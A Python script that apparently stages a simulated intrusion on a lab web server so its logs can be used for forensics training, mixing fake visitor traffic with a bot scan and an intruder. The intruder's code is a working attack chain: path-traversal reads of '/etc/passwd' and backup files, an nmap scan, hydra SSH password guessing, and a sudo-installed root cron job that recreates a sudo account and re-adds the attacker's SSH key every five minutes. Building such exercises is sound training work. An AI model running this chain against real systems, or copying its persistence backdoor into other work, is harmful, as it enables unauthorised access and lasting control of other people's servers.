#!/usr/bin/env python3
"""A busy minute on the internet: visitors, a bot that finds nothing, and an intruder who does. Run as root, once.

One machine plays them all, with an address for each, so that the server's own logs hold the traces.
"""

import http.client
import os
import shlex
import subprocess
from contextlib import contextmanager
from pathlib import Path
from tempfile import TemporaryDirectory

SERVER = "203.0.113.10"
SECRETS = Path(os.environ["LABCTL_SECRETS"])
KEY = Path("/root/intruder")
BOT, ELENA = "203.0.113.99", "203.0.113.31"

VISITORS = {
    "203.0.113.5": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "203.0.113.31": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0",
    "203.0.113.74": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.6 Safari/605.1.15",
    "203.0.113.128": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "203.0.113.163": "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/)",
    "203.0.113.219": "Mozilla/5.0 (Android 14; Mobile; rv:128.0) Gecko/128.0 Firefox/128.0",
}
PAGES = ("/", "/images/anvil.svg", "/prices.html", "/favicon.ico", "/robots.txt", "/sale.html", "/prices.html")
STAFF = ("ada", "bruno", "carla", "dimitri")
BACKUPS = ("backup.zip", "dump.sql", "users.csv", "staff.csv", "phones.csv", "contacts.csv", "team.csv", "people.csv")
WORDS = ("123456", "password", "qwerty")

ENTER = """
printf '%s\\n' {script} >.cache.sh
become() {{ sudo -k -S -p '' -- "$@"; }}
echo {password} | become install -m 755 .cache.sh {program}
{{ echo {password}; printf '%s\\n' {line}; }} | become tee {job} >/dev/null
echo {password} | become {program}
rm .cache.sh
"""

# What cron runs from then on: whatever of the intruder's has been removed comes back.
COME_BACK = """#!/bin/sh
id {user} >/dev/null 2>&1 || useradd --create-home --shell /bin/bash --groups sudo {user}
for name in {user} {account}; do
  keys=/home/$name/.ssh/authorized_keys
  [ -d /home/$name/.ssh ] || install -d -m 700 -o "$name" -g "$name" /home/$name/.ssh
  grep -qsF {key} "$keys" || echo {key} >>"$keys"
  chown "$name:" "$keys"
done"""


def secret(name):
    return (SECRETS / name).read_text()


def run(*words, **settings):
    """Run a program to its end; what it says goes to the log of this step."""
    return subprocess.run(words, check=False, stdin=subprocess.DEVNULL, timeout=600, **settings).returncode


@contextmanager
def addresses(*wanted):
    """Have these addresses as well, for a while."""
    for address in wanted:
        subprocess.run(["ip", "address", "replace", f"{address}/32", "dev", "eth0"], check=True)
    try:
        yield
    finally:
        run("ip", "route", "delete", f"{SERVER}/32", "dev", "eth0")
        for address in wanted:
            run("ip", "address", "delete", f"{address}/32", "dev", "eth0")


def be(address):
    """From now on come from this address to the server, whatever program goes there."""
    subprocess.run(["ip", "route", "replace", f"{SERVER}/32", "dev", "eth0", "src", address], check=True)


def get(agent, *paths):
    """Ask for pages, one connection for all; give the last answer's status."""
    connection = http.client.HTTPConnection(SERVER, timeout=60)
    status = 0
    for path in paths:
        connection.request("GET", path, headers={"User-Agent": agent})
        answer = connection.getresponse()
        answer.read()
        status = answer.status
    connection.close()
    return status


def visitors(turn):
    """Everybody looks at something, each time at something else."""
    for number, (address, agent) in enumerate(VISITORS.items(), turn):
        be(address)
        get(agent, *(PAGES[(number * step + step) % len(PAGES)] for step in range(3)))


def guess(names, words):
    """Try passwords at the SSH server."""
    Path("names").write_text("\n".join(names))
    Path("words").write_text("\n".join(words))
    run("hydra", "-I", "-q", "-f", "-t", "4", "-L", "names", "-P", "words", f"ssh://{SERVER}")


def log_in(name, passwords, command):
    """Log in with the last of some passwords, typed one after the other, and run a command; the exit code."""
    Path("passwords").write_text("\n".join(passwords) + "\n")
    asked = Path("asked").absolute()
    asked.write_text("#!/bin/sh\nhead -n 1 passwords\nsed -i 1d passwords\n")
    asked.chmod(0o700)
    options = ("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no")
    environment = {**os.environ, "SSH_ASKPASS": str(asked), "SSH_ASKPASS_REQUIRE": "force"}
    return run("ssh", *options, f"{name}@{SERVER}", command, env=environment)


def intrude(account, password):
    """Become root, and see to it that there is always a way back in."""
    if not KEY.exists():
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "root@kali", "-f", str(KEY))
    key, user, job = KEY.with_suffix(".pub").read_text().strip(), secret("user"), secret("job")
    program = f"/usr/local/sbin/{job}"
    script = COME_BACK.format(user=user, account=account, key=shlex.quote(key))
    line = f"*/5 * * * * root {program}"
    words = {"script": script, "line": line, "program": program, "job": f"/etc/cron.d/{job}", "password": password}
    done = log_in(account, [password], "set -e\n" + ENTER.format(**{k: shlex.quote(v) for k, v in words.items()}))
    if done != 0:
        raise SystemExit(f"the intruder did not get in: {done}")


def attack(address, agent, account, weak, taken):
    visitors(0)
    be(BOT)
    get("Mozilla/5.0 zgrab/0.x", "/", "/wp-login.php", "/.env", "/.git/config", "/images../etc/passwd")
    guess(("root", "admin"), WORDS[:2])
    be(address)
    run("nmap", "-n", "-Pn", "-sT", "-p", "21-25,80,443,3306,8080", SERVER)
    get(agent, "/", "/admin/", "/backup/", "/server-status", "/images/")
    visitors(1)
    be(ELENA)  # she mistypes, then gets it right
    log_in("elena", [secret("elena").swapcase(), secret("elena")], "df -h /")
    be(address)
    others = [name for name in BACKUPS if name != taken][:5]
    status = get(agent, *(f"/images../backup/{name}" for name in (*others, taken)))
    if status != 200:
        raise SystemExit(f"the file was not to be had: {status}")
    guess(STAFF, (*WORDS, weak))
    intrude(account, weak)
    visitors(2)


def main():
    told = [secret(name) for name in ("address", "agent", "account", "weak", "file")]
    with TemporaryDirectory() as folder, addresses(told[0], BOT, *VISITORS):
        os.chdir(folder)
        attack(*told)
        os.chdir("/")


if __name__ == "__main__":
    main()
